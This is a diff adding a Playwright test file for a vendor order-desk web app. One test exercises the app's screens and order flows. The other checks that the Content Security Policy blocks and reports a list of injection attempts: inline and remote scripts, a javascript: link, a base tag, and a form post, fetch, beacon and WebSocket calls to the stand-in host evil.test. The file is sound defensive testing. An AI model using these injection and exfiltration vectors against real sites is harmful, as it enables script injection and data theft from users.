@@ -1,0 +1,143 @@
+import { findChromium } from './chromium.ts'
+import { expect, test } from './fixture.ts'
+import { fillInCodes, lookThroughCamera, screens, withBarcodeReader, withoutPrinter } from './journey.ts'
+
+// That nothing is forbidden is held by the fixture, here as in every other test.
+
+const fakeCamera = ['--use-fake-device-for-media-stream', '--use-fake-ui-for-media-stream']
+test.use({ launchOptions: { executablePath: findChromium() ?? '', args: ['--no-sandbox', ...fakeCamera] } })
+
+test('every screen is used, and nothing that it does is forbidden', async ({ shop, page, context }) => {
+  test.setTimeout(180_000)
+  await context.grantPermissions(['camera', 'notifications', 'clipboard-write', 'screen-wake-lock'], {
+    origin: shop.desk.url,
+  })
+  await withBarcodeReader(context)
+  await withoutPrinter(context)
+  const first = shop.vendor.placeOrder()
+  for (const [address, words] of screens) {
+    await shop.open(address)
+    await expect(page.getByText(words).first()).toBeVisible()
+    await expect(page.getByRole('progressbar')).toHaveCount(0, { timeout: 30_000 })
+  }
+
+  await shop.open('/')
+  await page.getByRole('button', { name: 'Arm this tablet' }).click()
+  await expect(page.getByText(/^This tablet rings/)).toBeVisible()
+  // What falls back in silence where it is forbidden: the ring's pulse, its notification, the light of the screen.
+  await expect.poll(() => page.workers().length).toBe(1)
+  const wakeLock = await page.evaluate(async () => (await navigator.wakeLock.request('screen')).type)
+  expect(wakeLock).toBe('screen')
+  await page.evaluate(() => Object.defineProperty(document, 'hidden', { configurable: true, get: () => true }))
+  const ringWorkers = () => page.evaluate(async () => (await navigator.serviceWorker.getRegistrations()).length)
+  await expect.poll(ringWorkers).toBe(1)
+  await page.evaluate(() => Object.defineProperty(document, 'hidden', { configurable: true, get: () => false }))
+  await page.getByRole('article', { name: first.printNumber }).getByRole('link').first().click()
+  await page.getByRole('button', { name: 'Print ticket' }).click()
+  await lookThroughCamera(page)
+  await page.emulateMedia({ media: 'print' })
+  await page.emulateMedia({ media: 'screen' })
+  await page.getByRole('button', { name: 'Reject order' }).click()
+  await page.getByRole('dialog', { name: 'Reject order' }).getByRole('radio').first().check()
+  await page.getByRole('button', { name: 'Cancel' }).click()
+  await page.getByRole('button', { name: 'Accept order' }).click()
+  await page.getByRole('button', { name: 'Mark as ready' }).click()
+  await page.getByRole('button', { name: 'Undo' }).click()
+
+  const digital = shop.vendor.placeOrder('digital')
+  const units = digital.lines.reduce((sum, { quantity }) => sum + quantity, 0)
+  await page.getByRole('button', { name: 'I have seen it' }).click()
+  await shop.open(`/orders/${digital.id}`)
+  await page.getByRole('button', { name: 'Accept order' }).click()
+  // At once, where the catalog says already that it is digital.
+  const enter = page.getByRole('button', { name: 'Enter the codes' })
+  await enter.or(page.getByRole('dialog')).first().waitFor()
+  if (await enter.isVisible()) await enter.click()
+  const dialog = await fillInCodes(page, units, 'SECRET', 'serial')
+  await dialog.getByRole('button', { name: 'Accept order' }).click()
+  await expect(dialog).toBeHidden()
+
+  await shop.open('/settings')
+  await page.getByRole('button', { name: 'Copy' }).first().click()
+  await expect(page.getByText('Copied').first()).toBeVisible()
+  await page.getByRole('radio', { name: 'Dark' }).check()
+  await page.getByRole('radio', { name: 'العربية' }).click()
+  await page.getByRole('radio', { name: 'English' }).click()
+  await shop.open('/log')
+  const saved = page.waitForEvent('download')
+  await page.getByRole('button', { name: 'Save as CSV' }).click()
+  expect((await saved).suggestedFilename()).toBe('vendor-desk-log.csv')
+  // The one manager stays.
+  shop.command(['staff', 'add', 'Omar', '--pin-stdin'], '2580')
+  await shop.open('/staff')
+  await page.getByRole('button', { name: 'Remove Omar' }).click()
+  await page.getByRole('button', { name: 'Cancel' }).click()
+})
+
+test('what a script of somebody else’s would try is forbidden, and said', async ({ shop, browser }) => {
+  const context = await browser.newContext()
+  const page = await context.newPage()
+  await page.goto(shop.desk.url)
+  const outcomes = await page.evaluate(async () => {
+    const forbidden: string[] = []
+    addEventListener('securitypolicyviolation', ({ effectiveDirective }) => forbidden.push(effectiveDirective))
+    const attempt = async (work: () => unknown) => {
+      try {
+        await work()
+      } catch {
+        // That it did not work is what is looked for below.
+      }
+    }
+    const put = (name: string, attributes: Record<string, string>, text = '') => {
+      const element = document.createElement(name)
+      for (const [key, value] of Object.entries(attributes)) element.setAttribute(key, value)
+      if (text !== '') element.append(text)
+      document.body.append(element)
+      return element
+    }
+    const mark = 'globalThis.hacked = true'
+    // What a test's own hand does is exempt from the policy until its turn of the loop is over.
+    await new Promise((resolve) => setTimeout(resolve))
+    await attempt(() => (document.body.innerHTML += '<p>'))
+    await attempt(() => put('script', {}, mark))
+    await attempt(() => put('script', { src: 'https://evil.test/a.js' }))
+    await attempt(() => put('script', { src: `data:text/javascript,${mark}` }))
+    await attempt(() => put('b', { onclick: mark }).click())
+    await attempt(() => put('a', { href: `javascript:${mark}` }).click())
+    await attempt(() => put('style', {}, 'body { color: red }'))
+    await attempt(() => put('link', { rel: 'stylesheet', href: 'https://evil.test/a.css' }))
+    await attempt(() => put('b', { style: 'color: red' }))
+    await attempt(() => put('img', { src: 'http://evil.test/a.png' }))
+    await attempt(() => put('img', { src: 'data:image/svg+xml,<svg/>' }))
+    await attempt(() => put('iframe', { src: 'https://evil.test/' }))
+    await attempt(() => put('object', { data: 'https://evil.test/' }))
+    await attempt(() => put('base', { href: 'https://evil.test/' }))
+    await attempt(() =>
+      (put('form', { action: 'https://evil.test/', method: 'post' }) as HTMLFormElement).requestSubmit(),
+    )
+    await attempt(() => fetch('https://evil.test/'))
+    await attempt(() => navigator.sendBeacon('https://evil.test/', 'x'))
+    await attempt(() => new WebSocket('wss://evil.test/'))
+    await attempt(() => new EventSource('https://evil.test/'))
+    await attempt(() => new Worker('data:text/javascript,0'))
+    // oxlint-disable-next-line no-implied-eval -- that it is forbidden is what is tried
+    await attempt(() => new Function(mark)())
+    await new Promise((resolve) => setTimeout(resolve, 500))
+    return { forbidden, hacked: 'hacked' in globalThis, address: location.href, base: document.baseURI }
+  })
+  expect(outcomes).toMatchObject({ hacked: false, address: `${shop.desk.url}/`, base: `${shop.desk.url}/` })
+  expect(new Set(outcomes.forbidden)).toEqual(
+    new Set([
+      'require-trusted-types-for',
+      'script-src-elem',
+      'style-src-elem',
+      'style-src-attr',
+      'img-src',
+      'frame-src',
+      'base-uri',
+      'form-action',
+      'connect-src',
+    ]),
+  )
+  await context.close()
+})
